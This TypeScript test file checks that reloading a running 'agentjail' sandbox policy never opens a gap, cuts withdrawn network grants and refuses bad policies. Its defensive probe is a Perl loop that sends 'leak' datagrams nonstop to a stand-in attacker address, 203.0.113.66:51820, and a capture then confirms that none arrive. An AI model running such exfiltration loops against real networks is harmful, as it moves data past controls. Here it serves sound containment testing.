/**
 * Reload of a running jail, in both isolations: no window, withdrawn grants cut, new ports served, a refused policy changes nothing.
 * Judge: the capture on the wire, while a jailed program sends datagrams to the attacker without pause.
 */
import t, { type Test } from 'tap'
import { evil } from '../lab/addresses.js'
import { createLab, type Lab } from '../lab/lab.js'
import { eventually, isolations, nothingLeft, toEvil } from './faults-kit.js'

const path = '/etc/agentjail/policies/reload.yaml'
const cwd = '/srv/work'
const policy = (...allow: string[]) =>
  `version: 1\nname: reload\nnetwork:\n  allow:\n${allow.map((line) => `    - ${line}\n`).join('')}`
const [plain, ssh, http] = [
  'plain.example',
  '{ host: github.com, ports: [22] }',
  '{ host: api.openai.com, inspect: http, access: full }',
]

/** About 10,000 datagrams a second in bursts, so that a window of a millisecond shows. */
const flood = [
  'perl',
  '-e',
  String.raw`
use strict; use Socket; $| = 1;
socket(my $s, AF_INET, SOCK_DGRAM, 0); my $to = pack_sockaddr_in(51820, inet_aton('203.0.113.66'));
my ($n, $is_over) = (0, 0); $SIG{TERM} = sub { $is_over = 1 };
print "started\n";
while (!$is_over) { for (1 .. 10) { send($s, 'leak', MSG_DONTWAIT, $to); $n++ } select undef, undef, undef, 0.001 }
print "sent $n\n"; select undef, undef, undef, 1`,
]

const inJail = (lab: Lab, argv: readonly string[]) =>
  lab.agentjail(['run', '--join', 'reload', '--', ...argv], { timeout: 30_000 })
const fetchPlain = ['curl', '-sS', '--max-time', '5', 'https://plain.example/ok']
const sshHello = [
  ...['ssh', '-o', 'BatchMode=yes', '-o', 'StrictHostKeyChecking=no', '-o', 'LogLevel=ERROR'],
  ...['-o', 'ConnectTimeout=5', 'git@github.com', 'hello'],
]
/** One connection that stays open, and says when it is cut. */
const holdOpen = [
  ...['node', '-e'],
  `const s = require('tls').connect(443, 'plain.example', { servername: 'plain.example', rejectUnauthorized: false },
     () => console.log('open'))
   s.on('close', () => { console.log('cut'); process.exit(0) }); s.on('error', () => undefined)`,
]

const reloads = async (t: Test, lab: Lab, prefix: readonly string[]) => {
  lab.writeFile(path, policy(plain))
  const jail = lab.spawnAgentjail([...prefix, '--', ...flood], { cwd, timeout: 120_000 })
  await jail.until(/started/, 30_000)
  const reload = () => lab.agentjail(['reload', 'reload', '-p', path], { timeout: 30_000 })
  t.match((await inJail(lab, fetchPlain)).stdout, /path \/ok/, 'granted')
  t.not((await inJail(lab, sshHello)).code, 0, 'not granted yet')

  lab.writeFile(path, policy(plain, ssh))
  const more = await reload()
  t.equal(more.code, 0, more.stderr)
  t.match((await inJail(lab, sshHello)).stdout, /lab ran: hello/, 'a port more is served at once')

  for (let n = 0; n < 5; n++) {
    lab.writeFile(path, n % 2 === 0 ? policy(plain) : policy(plain, ssh))
    const { code, stderr } = await reload()
    t.equal(code, 0, `reload ${n}: ${stderr}`)
  }
  const held = lab.spawnAgentjail(['run', '--join', 'reload', '--', ...holdOpen], {
    timeout: 60_000,
  })
  await held.until(/open/, 20_000)
  lab.writeFile(path, policy(ssh))
  t.match((await reload()).stdout, /1 connections cut/, 'the withdrawn connection is counted')
  await held.until(/cut/, 20_000)
  t.not((await inJail(lab, fetchPlain)).code, 0, 'withdrawn')

  lab.writeFile(path, 'version: 1\nname: reload\nnetwork: { allow: ["*"] }\n')
  t.match(await reload(), { code: 2, stderr: /reload\.yaml:3/ }, 'a mistake is refused')
  lab.writeFile(path, policy(plain, http))
  t.match(await reload(), { code: 2, stderr: /inspect: http/ }, 'so is what needs a new start')
  t.match((await inJail(lab, sshHello)).stdout, /hello/, 'the old one is in force')
  t.not((await inJail(lab, fetchPlain)).code, 0, 'and nothing of the refused one')

  jail.kill('SIGTERM')
  const { stdout } = await jail.ended
  const sent = Number(/sent (\d+)/.exec(stdout)?.[1])
  const log = (await lab.agentjail(['logs', 'reload', '--denied', '--json'])).stdout
  const told = log
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as { address?: string; port?: number; count?: number })
    .filter(({ address, port }) => address === evil.v4 && port === 51_820)
    .reduce((sum, { count }) => sum + (count ?? 1), 0)
  t.equal(told, sent, 'each is in the log, whatever changed meanwhile')
  t.ok(await eventually(() => lab.processes().every(({ uid }) => uid < 1_900_000_000)))
  await nothingLeft(t, lab, 'reload')
  t.same(await lab.capture.packets(toEvil), [], 'nothing reached the attacker at any instant')
}

/** Milliseconds: bounds a hang, judges no speed. */
const timeout = 200_000
t.setTimeout(2 * timeout)
for (const isolation of isolations) {
  t.test(isolation, { timeout }, async (t) => {
    const lab = await createLab()
    t.teardown(() => lab.close())
    lab.writeFile('/srv/work/README', 'a workspace\n')
    lab.writeFile(path, policy(plain))
    const prefix = ['run', '-q', '--policy', path, '--isolation', isolation]
    t.equal((await lab.agentjail([...prefix, '--', 'true'], { cwd })).code, 0)
    await lab.remember()
    await lab.capture.clear()
    await reloads(t, lab, prefix)
  })
}
